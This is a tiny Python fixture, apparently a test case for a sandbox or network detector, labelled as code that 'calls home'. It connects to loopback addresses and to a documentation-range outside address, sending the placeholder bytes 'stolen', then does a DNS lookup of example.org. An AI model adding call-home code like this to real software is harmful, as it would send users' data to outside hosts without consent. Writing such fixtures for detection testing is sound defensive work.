# class: touches
# what: calls home, over the loopback and abroad
import socket
for address in (("127.0.0.1", 47123), ("::1", 47123), ("192.0.2.1", 80)):
    try:
        family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        with socket.socket(family) as s:
            s.settimeout(1)
            s.connect(address)
            s.send(b"stolen")
    except OSError:
        pass
try:
    socket.gethostbyname("example.org")
except OSError:
    pass
